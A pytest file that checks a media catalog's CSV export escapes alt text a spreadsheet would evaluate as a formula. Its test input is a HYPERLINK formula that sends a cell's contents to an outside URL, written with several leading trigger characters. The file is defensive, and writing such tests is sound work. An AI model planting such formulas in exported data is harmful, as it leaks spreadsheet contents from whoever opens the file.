"""CSV of the catalog: what a page's alt text can do to the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io

import pytest

from mediamirror.catalog.listing import CatalogRow
from mediamirror.report.rows import writer_for


def cells(row: CatalogRow) -> dict[str, str]:
    file = io.BytesIO()
    with writer_for("csv", file) as writer:
        writer.write(row)
    (read,) = csv.DictReader(io.StringIO(file.getvalue().decode(), newline=""))
    return read


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_text_that_a_spreadsheet_would_calculate_is_text(begin: str) -> None:
    alt = f'{begin}HYPERLINK("https://example.org/?"&A1)'
    assert cells(CatalogRow("m", "stored", alt=alt))["alt"] == f"'{alt}"


def test_other_text_and_numbers_stand_as_they_are() -> None:
    alt = 'a "quay",\nfor =1+1, \u65e5\u672c \U0001f600'
    read = cells(CatalogRow("m", "stored", alt=alt, width=640, declared_width=(320, 640)))
    assert (read["alt"], read["width"], read["declared_width"]) == (alt, "640", "320 640")
